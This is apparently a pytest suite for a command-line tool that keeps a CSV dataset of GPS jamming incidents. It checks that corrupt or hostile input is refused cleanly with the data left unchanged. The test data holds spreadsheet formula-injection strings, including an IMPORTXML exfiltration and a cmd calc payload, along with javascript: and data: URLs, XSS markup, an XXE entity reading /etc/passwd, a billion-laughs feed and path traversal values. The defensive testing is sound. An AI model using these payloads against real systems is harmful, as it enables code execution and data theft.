"""Hostile and broken input through the real CLI: a clear error, a non-zero exit, nothing changed.

One test per case. Each builds a valid dataset by code, breaks one thing, runs the command that
would write (``fmt``, ``ingest --apply``...) and checks the promises in :mod:`hostile`: the message
names file, line and field; the exit code is 1; both CSV files are byte-for-byte unchanged; no
traceback. Rule-by-rule validation at the library level lives in ``test_validate.py``; this file
is about what a user of the command line sees and what is left on disk.

Cases marked ``xfail(strict=True)`` are real bugs found by this suite and reported to the module's
owner; they turn into failures (XPASS) the moment the bug is fixed, so the marker gets removed.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from helpers import csv_text, sample_rows
from hostile import (
    assert_clean,
    assert_refused,
    data_bytes,
    invoke,
    leftovers,
    make_dataset,
    run_cli,
)

from tracker import dataset, schema
from tracker.schema import INC, SRC

INC_FILE = f"data/{schema.INCIDENTS_FILE}"
SRC_FILE = f"data/{schema.SOURCES_FILE}"


def _col(name: str) -> int:
    """1-based column of an incident field, as printed in FILE:LINE:COLUMN."""
    return schema.INCIDENT_COLUMNS.index(name) + 1


def _scol(name: str) -> int:
    return schema.SOURCE_COLUMNS.index(name) + 1


@pytest.fixture
def data(tmp_path: Path, monkeypatch) -> Path:
    """A valid canonical dataset at ``./data`` (so messages say ``data/incidents.csv``)."""
    monkeypatch.chdir(tmp_path)
    return make_dataset(tmp_path / "data")


def _broken(data: Path, *, incident=None, source=None) -> Path:
    return make_dataset(data, incident=incident, source=source)


def _write_raw(data: Path, name: str, content: bytes) -> None:
    (data / name).write_bytes(content)


def _fmt_refuses(data: Path, *expected: str) -> str:
    before = data_bytes(data)
    return assert_refused(invoke("fmt", "--data-dir", str(data)), data, before, *expected)


# --- CSV structure and encoding ------------------------------------------------------------------


def _incident_lines(data: Path) -> list[str]:
    return (data / schema.INCIDENTS_FILE).read_text("utf-8").splitlines(keepends=True)


def test_extra_cell_names_line(data: Path):
    lines = _incident_lines(data)
    lines[2] = lines[2].rstrip("\n") + ",surplus\n"
    _write_raw(data, schema.INCIDENTS_FILE, "".join(lines).encode())
    _fmt_refuses(
        data,
        f"{INC_FILE}:3:24: row has 24 fields but the header has 23 [extra-cell]",
        "nothing was written",
    )


def test_missing_cell_names_line(data: Path):
    lines = _incident_lines(data)
    lines[1] = lines[1].rsplit(",", 2)[0] + "\n"
    _write_raw(data, schema.INCIDENTS_FILE, "".join(lines).encode())
    _fmt_refuses(data, f"{INC_FILE}:2:", "[missing-cell]")


def test_unclosed_quote_to_end_of_file(data: Path):
    lines = _incident_lines(data)
    lines[2] = lines[2].replace("Synthetic", '"Synthetic', 1)
    _write_raw(data, schema.INCIDENTS_FILE, "".join(lines).encode())
    _fmt_refuses(data, f"{INC_FILE}:3:", "[bad-quoting]")


def test_duplicate_header(data: Path):
    text = (data / schema.INCIDENTS_FILE).read_text("utf-8")
    text = text.replace(f",{INC.region},", f",{INC.country},", 1)
    _write_raw(data, schema.INCIDENTS_FILE, text.encode())
    _fmt_refuses(data, f"{INC_FILE}:1:{_col(INC.region)}: {INC.country}: column appears twice")


def test_renamed_column_gets_a_hint(data: Path):
    text = (data / schema.INCIDENTS_FILE).read_text("utf-8").replace(",latitude,", ",Latitude ,", 1)
    _write_raw(data, schema.INCIDENTS_FILE, text.encode())
    _fmt_refuses(
        data,
        "did you mean 'latitude'?",
        f"{INC_FILE}:1:0: {INC.latitude}: column 'latitude' is missing",
    )


def test_unknown_extra_column_is_refused(data: Path):
    lines = [line.rstrip("\n") + ",x\n" for line in _incident_lines(data)]
    lines[0] = lines[0].replace(",x\n", ",reporter_email\n")
    _write_raw(data, schema.INCIDENTS_FILE, "".join(lines).encode())
    _fmt_refuses(data, "reporter_email", "[unknown-column]")


def test_blank_row(data: Path):
    lines = _incident_lines(data)
    lines.insert(3, "\n")
    _write_raw(data, schema.INCIDENTS_FILE, "".join(lines).encode())
    _fmt_refuses(data, f"{INC_FILE}:4:0: blank line [blank-row]")


def test_embedded_newline_in_quoted_note(data: Path):
    _broken(data, source=(1, {SRC.note: "first line\nsecond line"}))
    _fmt_refuses(data, f"{SRC_FILE}:3:{_scol(SRC.note)}: {SRC.note}: a quoted cell spans lines 3-4")


def test_windows_1252_byte_is_located_exactly(data: Path):
    raw = (data / schema.INCIDENTS_FILE).read_bytes()
    offset = raw.index(b"Test Airport", raw.index(b"\n2024-03-11")) + 6
    _write_raw(data, schema.INCIDENTS_FILE, raw[:offset] + b"\xe9" + raw[offset + 1 :])
    _fmt_refuses(data, f"{INC_FILE}:3:", f"byte 0xe9 at byte offset {offset}", "[not-utf8]")


def test_utf16_file_is_not_guessed(data: Path):
    text = (data / schema.SOURCES_FILE).read_text("utf-8")
    _write_raw(data, schema.SOURCES_FILE, text.encode("utf-16"))
    _fmt_refuses(data, f"{SRC_FILE}:1:", "not valid UTF-8", "[not-utf8]")


def test_nul_byte_inside_a_cell(data: Path):
    _broken(data, incident=(2, {INC.location: "Test\x00Airport"}))
    _fmt_refuses(data, f"{INC_FILE}:4:{_col(INC.location)}: {INC.location}:", "[control-character]")


def test_bidi_override_in_place_name(data: Path):
    _broken(data, incident=(0, {INC.location: "Test \u202eTRIOPRIA\u202c"}))
    _fmt_refuses(data, f"{INC_FILE}:2:{_col(INC.location)}: {INC.location}:", "[control-character]")


def test_200k_character_note_is_a_length_error_not_a_crash(data: Path):
    _broken(data, source=(2, {SRC.note: "a" * 200_000}))
    _fmt_refuses(
        data, f"{SRC_FILE}:4:{_scol(SRC.note)}: {SRC.note}: text is 200,000 characters long"
    )


def test_empty_sources_file(data: Path):
    _write_raw(data, schema.SOURCES_FILE, b"")
    _fmt_refuses(data, f"{SRC_FILE}:1:0: file is empty [empty-file]")


def test_data_file_is_a_directory(data: Path):
    (data / schema.SOURCES_FILE).unlink()
    (data / schema.SOURCES_FILE).mkdir()
    before = data_bytes(data)
    outcome = invoke("fmt", "--data-dir", str(data))
    assert_refused(outcome, data, before, "Error:", schema.SOURCES_FILE)


def test_old_mac_cr_only_line_endings(data: Path):
    """Bare CR line ends (old Mac) are read, flagged as a format note, and normalised by fmt."""
    raw = (data / schema.INCIDENTS_FILE).read_bytes()
    _write_raw(data, schema.INCIDENTS_FILE, raw.replace(b"\n", b"\r"))
    checked = invoke("fmt", "--check", "--data-dir", str(data))
    assert checked.exit_code == 1 and "Traceback" not in checked.output
    fixed = invoke("fmt", "--data-dir", str(data))
    assert fixed.exit_code == 0, fixed.output
    assert (data / schema.INCIDENTS_FILE).read_bytes() == raw


def test_crlf_bom_and_missing_newline_are_fixed_by_fmt(data: Path):
    raw = (data / schema.INCIDENTS_FILE).read_bytes()
    canonical = data_bytes(data)
    _write_raw(
        data, schema.INCIDENTS_FILE, b"\xef\xbb\xbf" + raw.replace(b"\n", b"\r\n").rstrip(b"\r\n")
    )
    check = invoke("fmt", "--check", "--data-dir", str(data))
    text = assert_clean(check)
    assert check.exit_code == 1 and "[not-canonical]" in text
    fixed = invoke("fmt", "--data-dir", str(data))
    assert fixed.exit_code == 0 and f"reformatted {schema.INCIDENTS_FILE}" in assert_clean(fixed)
    assert data_bytes(data) == canonical, "fmt restores the exact canonical bytes"
    again = invoke("fmt", "--data-dir", str(data))
    assert again.exit_code == 0 and "already canonical" in again.output


# --- types, ranges and dates ----------------------------------------------------------------------


def test_every_bad_number_is_reported_at_once(data: Path):
    incidents, sources = sample_rows(5)
    bad = {0: "91", 1: "51,5", 2: "1e3", 3: "NaN", 4: " 51.5"}
    for index, value in bad.items():
        incidents[index][INC.latitude] = value
    incidents[4][INC.longitude] = "-181"
    (data / schema.INCIDENTS_FILE).write_text(csv_text(incidents, schema.INCIDENT_COLUMNS), "utf-8")
    (data / schema.SOURCES_FILE).write_text(csv_text(sources, schema.SOURCE_COLUMNS), "utf-8")
    col = _col(INC.latitude)
    _fmt_refuses(
        data,
        f"{INC_FILE}:2:{col}: latitude: 91 is outside [-90, 90]",
        f"{INC_FILE}:3:{col}: latitude: '51,5' is not a plain decimal",
        f"{INC_FILE}:4:{col}: latitude: '1e3' is not a plain decimal",
        f"{INC_FILE}:5:{col}: latitude: 'NaN' is not a plain decimal",
        f"{INC_FILE}:6:{col}: latitude: ' 51.5' is not a plain decimal",
        f"{INC_FILE}:6:{_col(INC.longitude)}: longitude: -181 is outside [-180, 180]",
        "Error: 6 errors; nothing was written",
    )


def test_four_hundred_digit_number(data: Path):
    _broken(data, incident=(1, {INC.radius_km: "9" * 400}))
    _fmt_refuses(data, f"{INC_FILE}:3:{_col(INC.radius_km)}: radius_km:", "[out-of-range]")


def test_arabic_indic_digits_in_latitude(data: Path):
    _broken(data, incident=(1, {INC.latitude: "\u0665\u0661.\u0665"}))
    _fmt_refuses(data, f"{INC_FILE}:3:{_col(INC.latitude)}: latitude:", "[not-a-number]")


def test_fullwidth_digits_in_date(data: Path):
    _broken(data, incident=(1, {INC.date: "\uff12\uff10\uff12\uff14-03-11"}))
    _fmt_refuses(data, f"{INC_FILE}:3:{_col(INC.date)}: date:", "[invalid-date]")


def test_impossible_calendar_date(data: Path):
    _broken(data, incident=(2, {INC.date: "2024-02-30"}))
    _fmt_refuses(data, f"{INC_FILE}:4:{_col(INC.date)}: date: '2024-02-30' is not a valid ISO date")


def test_ambiguous_slash_date(data: Path):
    _broken(data, source=(0, {SRC.published: "03/04/2024"}))
    _fmt_refuses(
        data,
        f"{SRC_FILE}:2:{_scol(SRC.published)}: published: '03/04/2024' is not a valid ISO date",
    )


def test_year_9999_does_not_overflow(data: Path):
    _broken(data, incident=(0, {INC.end_date: "9999-12-31"}))
    _fmt_refuses(data, f"{INC_FILE}:2:{_col(INC.end_date)}: end_date: 9999-12-31 is in the future")


def test_year_zero_does_not_overflow(data: Path):
    _broken(data, incident=(0, {INC.date: "0000-01-01"}))
    _fmt_refuses(data, f"{INC_FILE}:2:{_col(INC.date)}: date: 0000-01-01 is before GPS existed")


def test_timestamp_instead_of_date(data: Path):
    _broken(data, incident=(1, {INC.date: "2024-03-11T23:59:00Z"}))
    _fmt_refuses(data, f"{INC_FILE}:3:{_col(INC.date)}: date:", "[invalid-date]")


def test_end_before_start(data: Path):
    _broken(data, incident=(1, {INC.end_date: "2024-03-01"}))
    _fmt_refuses(
        data, f"{INC_FILE}:3:{_col(INC.end_date)}: end_date: end_date 2024-03-01 is before"
    )


def test_enum_with_case_and_padding_gets_a_hint(data: Path):
    _broken(data, incident=(0, {INC.interference: "JAMMING "}))
    _fmt_refuses(
        data, f"{INC_FILE}:2:{_col(INC.interference)}: interference:", "did you mean 'jamming'?"
    )


def test_null_island_coordinates(data: Path):
    _broken(data, incident=(2, {INC.latitude: "0", INC.longitude: "0"}))
    _fmt_refuses(
        data, f"{INC_FILE}:4:{_col(INC.latitude)}: latitude: coordinates 0,0", "[null-island]"
    )


def test_na_and_none_survive_a_write_as_literal_text(data: Path):
    _broken(
        data,
        incident=(
            0,
            {INC.country: "NA", INC.region: "Africa", INC.operator: "None", INC.flight: "null"},
        ),
    )
    before = data_bytes(data)
    outcome = invoke("fmt", "--data-dir", str(data))
    assert outcome.exit_code == 0, assert_clean(outcome)
    assert data_bytes(data) == before
    loaded = dataset.load(data).incidents.iloc[0]
    assert (loaded[INC.country], loaded[INC.operator], loaded[INC.flight]) == ("NA", "None", "null")


# --- ids and duplicates ---------------------------------------------------------------------------


def test_duplicate_id_names_both_lines(data: Path):
    _broken(data, incident=(2, {INC.id: "2024-03-10-place-0"}))
    text = _fmt_refuses(
        data, f"{INC_FILE}:4:1: id: id '2024-03-10-place-0' was already used on line 2"
    )
    assert "[duplicate-id]" in text


def test_row_pasted_twice(data: Path):
    for name in schema.INCIDENTS_FILE, schema.SOURCES_FILE:
        lines = (data / name).read_text("utf-8").splitlines(keepends=True)
        (data / name).write_text("".join(lines + [lines[1]]), "utf-8")
    _fmt_refuses(
        data, f"{INC_FILE}:5:1: id:", "[duplicate-id]", f"{SRC_FILE}:5:1:", "[duplicate-source]"
    )


def test_path_traversal_as_id(data: Path):
    _broken(
        data,
        incident=(1, {INC.id: "../../etc/passwd"}),
        source=(1, {SRC.incident_id: "../../etc/passwd"}),
    )
    _fmt_refuses(
        data,
        f"{INC_FILE}:3:1: id: '../../etc/passwd' is not a valid id",
        f"{SRC_FILE}:3:1: incident_id:",
    )


def test_id_with_arabic_indic_digits(data: Path):
    ident = "\u0662\u0660\u0662\u0664-\u0660\u0663-\u0661\u0661-place-1"
    _broken(data, incident=(1, {INC.id: ident}), source=(1, {SRC.incident_id: ident}))
    _fmt_refuses(data, f"{INC_FILE}:3:1: id:", "is not a valid id")


def test_deleted_incident_leaves_orphan_source(data: Path):
    lines = _incident_lines(data)
    del lines[2]
    _write_raw(data, schema.INCIDENTS_FILE, "".join(lines).encode())
    _fmt_refuses(data, f"{SRC_FILE}:3:1: incident_id: no incident has id '2024-03-11-place-1'")


def test_incident_without_any_source(data: Path):
    lines = (data / schema.SOURCES_FILE).read_text("utf-8").splitlines(keepends=True)
    del lines[3]
    _write_raw(data, schema.SOURCES_FILE, "".join(lines).encode())
    _fmt_refuses(data, f"{INC_FILE}:4:1: id: incident '2024-03-12-place-2' has no source")


# --- formula injection and markup in the canonical files ------------------------------------------

FORMULAS = {
    "hyperlink": (INC.summary, '=HYPERLINK("http://evil.example","click")'),
    "at-sum": (INC.location, "@SUM(1+1)*cmd|' /C calc'!A0"),
    "plus": (INC.operator, "+1+1"),
    "minus": (INC.aircraft, "-2+3"),
    "tab": (INC.effects, "\t=1+1"),
}


@pytest.mark.parametrize("case", FORMULAS, ids=list(FORMULAS))
def test_formula_in_text_cell(data: Path, case: str):
    column, value = FORMULAS[case]
    _broken(data, incident=(1, {column: value}))
    _fmt_refuses(
        data, f"{INC_FILE}:3:{_col(column)}: {column}:", "which spreadsheets run as a formula"
    )


def test_formula_in_source_publisher(data: Path):
    _broken(data, source=(0, {SRC.publisher: '=IMPORTXML(CONCAT("http://x/?",A1),"//a")'}))
    _fmt_refuses(data, f"{SRC_FILE}:2:{_scol(SRC.publisher)}: publisher:", "[formula-injection]")


HOSTILE_URLS = {
    "javascript": "javascript:alert(document.domain)",
    "mixed-case": "JaVaScRiPt:alert(1)",
    "tab-split": "java\tscript:alert(1)",
    "entity": "&#106;avascript:alert(1)",
    "data-html": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
    "leading-space": " https://example.org/x",
    "userinfo-host-spoof": "https://trusted.example@evil.example/",
    "protocol-relative": "//evil.example/x",
    "bidi-in-path": "https://example.org/\u202egnp.exe",
}


@pytest.mark.parametrize("case", HOSTILE_URLS, ids=list(HOSTILE_URLS))
def test_hostile_source_url(data: Path, case: str):
    _broken(data, source=(1, {SRC.url: HOSTILE_URLS[case]}))
    _fmt_refuses(data, f"{SRC_FILE}:3:{_scol(SRC.url)}: url:")


def test_markup_in_summary_is_kept_as_literal_text(data: Path):
    """HTML is data, not an error: it is stored verbatim and made inert where it is shown."""
    markup = '<script>alert(1)</script><img src=x onerror="alert(2)"> & </textarea>'
    _broken(data, incident=(1, {INC.summary: markup}))
    before = data_bytes(data)
    outcome = invoke("fmt", "--data-dir", str(data))
    assert outcome.exit_code == 0, assert_clean(outcome)
    assert data_bytes(data) == before
    assert dataset.load(data).incidents[INC.summary].iloc[1] == markup


# --- the store: markers, temporaries, locks, disks ------------------------------------------------


def test_corrupt_commit_marker_is_a_clear_error(data: Path):
    marker = data / dataset.COMMIT_MARKER
    marker.write_text("{not json", "utf-8")
    before = data_bytes(data)
    outcome = invoke("validate", "--data-dir", str(data))
    assert outcome.exit_code == 1
    assert f"{marker} is corrupt; inspect and remove it by hand" in assert_clean(outcome)
    assert data_bytes(data) == before
    assert marker.read_text("utf-8") == "{not json", "left for a human to inspect"


def test_commit_marker_of_the_wrong_shape(data: Path):
    marker = data / dataset.COMMIT_MARKER
    marker.write_text("[]", "utf-8")
    before = data_bytes(data)
    outcome = invoke("validate", "--data-dir", str(data))
    assert outcome.exit_code == 1
    assert f"{marker} is corrupt; inspect and remove it by hand" in assert_clean(outcome)
    assert data_bytes(data) == before
    assert marker.read_text("utf-8") == "[]", "left for a human to inspect"


def test_commit_marker_cannot_move_files_from_outside(data: Path):
    """A ``.pending-commit.json`` slipped into a pull request must not pull outside files in."""
    outside = data.parent / "secret.txt"
    outside.write_text("token=hunter2\n", "utf-8")
    marker = {"replace": {schema.INCIDENTS_FILE: "../secret.txt"}}
    (data / dataset.COMMIT_MARKER).write_text(json.dumps(marker), "utf-8")
    before = data_bytes(data)
    invoke("validate", "--data-dir", str(data))
    assert outside.read_text("utf-8") == "token=hunter2\n"
    assert data_bytes(data) == before


def test_stray_temporary_from_a_crash_is_swept(data: Path):
    stray = data / f".{schema.INCIDENTS_FILE}.k1l2m3.tmp"
    stray.write_bytes(b"id,date\nhalf a ro")
    before = data_bytes(data)
    outcome = invoke("validate", "--data-dir", str(data))
    assert outcome.exit_code == 0, assert_clean(outcome)
    assert not stray.exists() and leftovers(data) == []
    assert data_bytes(data) == before


def test_lock_held_by_another_process_times_out_cleanly(data: Path):
    import subprocess
    import sys

    from tracker.errors import LockTimeoutError

    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import filelock, sys, time\n"
         "lock = filelock.FileLock(sys.argv[1]); lock.acquire()\n"
         "print('held', flush=True); time.sleep(60)",
         str(data / dataset.LOCK_FILE)],
        stdout=subprocess.PIPE,
    )  # fmt: skip
    try:
        assert holder.stdout.readline().strip() == b"held"
        before = data_bytes(data)
        changed = dataset.load(data)
        changed.incidents.loc[0, INC.summary] = "Changed while locked."
        with pytest.raises(LockTimeoutError, match="held by another process"):
            dataset.save(changed, data, timeout=0.5)
        assert data_bytes(data) == before and leftovers(data) == []
    finally:
        holder.kill()
        holder.wait()


def test_disk_full_during_fmt_is_a_clear_error(data: Path, monkeypatch):
    """ENOSPC while flushing the new file: one-line error, exit 1, data intact, no temporary."""
    import errno
    import os

    lines = _incident_lines(data)
    _write_raw(
        data, schema.INCIDENTS_FILE, "".join([lines[0], lines[3], lines[2], lines[1]]).encode()
    )
    before = data_bytes(data)

    def full(fd):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    outcome = invoke("fmt", "--data-dir", str(data))
    monkeypatch.undo()
    assert_refused(outcome, data, before, "Error: could not write to", "No space left on device")


# --- free text: ingest ----------------------------------------------------------------------------

REPORT = """Published: 2024-06-03
URL: {url}

Pilots reported GPS jamming near Vilnius

On 2 June 2024 a Ryanair Boeing 737 approaching Vilnius Airport lost GPS because of jamming.
{extra}
"""


def _report(
    tmp_path: Path,
    name: str = "report.txt",
    *,
    url: str = "https://news.example.org/a",
    extra: str = "",
) -> Path:
    path = tmp_path / name
    path.write_text(REPORT.format(url=url, extra=extra), "utf-8")
    return path


def _ingest_refuses(data: Path, *args: str, expected: tuple[str, ...]) -> str:
    before = data_bytes(data)
    return assert_refused(
        invoke("ingest", *args, "--apply", "--data-dir", str(data)), data, before, *expected
    )


def test_ingest_binary_file(data: Path, tmp_path: Path):
    blob = tmp_path / "photo.txt"
    blob.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8)
    _ingest_refuses(data, str(blob), expected=("photo.txt: looks binary", "nothing was written"))


def test_ingest_empty_file(data: Path, tmp_path: Path):
    empty = tmp_path / "empty.md"
    empty.write_bytes(b" \n\n")
    _ingest_refuses(data, str(empty), expected=("empty.md: empty input",))


def test_ingest_oversized_file(data: Path, tmp_path: Path):
    from tracker.ingest.readers import MAX_INPUT_BYTES

    big = tmp_path / "big.txt"
    with big.open("wb") as handle:
        handle.write(REPORT.format(url="https://x.example/", extra="").encode())
        handle.truncate(MAX_INPUT_BYTES + 1)
    _ingest_refuses(data, str(big), expected=("big.txt: larger than 5 MB",))


def test_ingest_oversized_stdin(data: Path):
    from tracker.ingest.readers import MAX_INPUT_BYTES

    before = data_bytes(data)
    outcome = invoke(
        "ingest",
        "-",
        "--apply",
        "--data-dir",
        str(data),
        input=b"GPS jamming " * (MAX_INPUT_BYTES // 12 + 10),
    )
    assert_refused(outcome, data, before, "<stdin>: larger than 5 MB")


def test_ingest_billion_laughs_feed(data: Path, tmp_path: Path):
    lol = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    feed = tmp_path / "feed.rss"
    feed.write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n' + "\n".join(lol) + "\n]>\n"
        "<rss><channel><item><title>&lol9;</title><description>GPS jamming at Vilnius</description>"
        "</item></channel></rss>\n",
        "utf-8",
    )
    _ingest_refuses(data, str(feed), expected=("feed.rss",))


def test_ingest_external_entity_feed(data: Path, tmp_path: Path):
    feed = tmp_path / "xxe.xml"
    feed.write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
        "<rss><channel><item><title>&x;</title><description>GPS jamming at Vilnius Airport on "
        "2 June 2024</description></item></channel></rss>\n",
        "utf-8",
    )
    text = _ingest_refuses(data, str(feed), expected=("xxe.xml",))
    assert "root:" not in text


def test_ingest_javascript_url_in_report(data: Path, tmp_path: Path):
    report = _report(tmp_path, url="javascript:alert(document.cookie)")
    _ingest_refuses(
        data, str(report), expected=("needs an http(s) source URL", "nothing was written")
    )


def test_ingest_javascript_url_option(data: Path, tmp_path: Path):
    report = tmp_path / "no-url.txt"
    report.write_text(REPORT.replace("URL: {url}\n", "").format(extra=""), "utf-8")
    _ingest_refuses(
        data, str(report), "--url", "JaVaScRiPt:alert(1)", expected=("needs an http(s) source URL",)
    )


def test_ingest_missing_path(data: Path, tmp_path: Path):
    _ingest_refuses(
        data, str(tmp_path / "nope.txt"), expected=("nope.txt: no such file or folder",)
    )


def test_ingest_folder_without_reports(data: Path, tmp_path: Path):
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "notes.odt").write_bytes(b"PK\x03\x04")
    _ingest_refuses(data, str(folder), expected=("folder holds no report files",))


def test_ingest_refuses_a_zip_that_is_no_office_document(data: Path, tmp_path: Path):
    stub = tmp_path / "notes.docx"
    stub.write_bytes(b"PK\x03\x04")
    _ingest_refuses(data, str(stub), expected=("notes.docx: a zip archive that is neither",))


def test_ingest_hostile_text_writes_only_clean_cells(data: Path, tmp_path: Path):
    extra = (
        '=HYPERLINK("http://evil.example") @SUM(1) <script>alert(1)</script> '
        "<img src=x onerror=alert(1)> Vil\u200bnius \u202eevil\u202c \x07"
    )
    report = _report(tmp_path, extra=extra)
    outcome = invoke("ingest", str(report), "--apply", "--data-dir", str(data))
    assert outcome.exit_code == 0, assert_clean(outcome)
    after = data_bytes(data)
    problems = [p for p in __import__("tracker.validate").validate.validate_dir(data) if p.is_error]
    assert problems == []
    text = b"".join(after.values()).decode("utf-8")
    for needle in ("<script", "onerror", "\u200b", "\u202e", "\x07", ",=", ",@", '"='):
        assert needle not in text, needle


def test_ingest_windows_1252_report_is_read_with_a_note(data: Path, tmp_path: Path):
    report = tmp_path / "cp1252.txt"
    report.write_bytes(
        REPORT.format(
            url="https://news.example.org/b", extra="Caf\xe9 cr\xe8me \u2013 r\xe9sum\xe9."
        ).encode("cp1252")
    )
    outcome = invoke("ingest", str(report), "--data-dir", str(data))
    text = assert_clean(outcome)
    assert outcome.exit_code == 0, text
    assert "Vilnius" in text


# --- a real process: exit status and stderr, not just the in-process runner -----------------------


def test_real_process_bad_data_exit_1_without_traceback(data: Path):
    _broken(
        data, incident=(1, {INC.latitude: "95.1"}), source=(2, {SRC.url: "javascript:alert(1)"})
    )
    before = data_bytes(data)
    result = run_cli("fmt", "--data-dir", "data", cwd=data.parent)
    stderr = result.stderr.decode()
    assert result.returncode == 1
    assert "Traceback" not in stderr + result.stdout.decode()
    assert f"{INC_FILE}:3:{_col(INC.latitude)}: latitude: 95.1 is outside [-90, 90]" in stderr
    assert (
        f"{SRC_FILE}:4:{_scol(SRC.url)}: url: 'javascript:alert(1)': only http and https links"
        in stderr
    )
    assert stderr.rstrip().endswith("Error: 2 errors; nothing was written")
    assert data_bytes(data) == before


def test_data_file_symlinked_outside_is_not_echoed(data: Path):
    """git stores symlinks: a pull request can point data/incidents.csv at any file on the CI
    box."""
    secret = data.parent / "secret.env"
    secret.write_text("API_TOKEN=hunter2\n", "utf-8")
    (data / schema.INCIDENTS_FILE).unlink()
    (data / schema.INCIDENTS_FILE).symlink_to(secret)
    outcome = invoke("validate", "--data-dir", str(data))
    assert outcome.exit_code == 1
    assert "hunter2" not in assert_clean(outcome)


@pytest.mark.parametrize(
    "char", ["\u2028", "\u2029", "\x85", "\x9b"], ids=["LS", "PS", "NEL", "CSI"]
)
def test_unicode_line_separators_and_c1_controls(data: Path, char: str):
    _broken(data, incident=(1, {INC.location: f"Test{char}Airport"}))
    _fmt_refuses(data, f"{INC_FILE}:3:{_col(INC.location)}: {INC.location}:", "[control-character]")
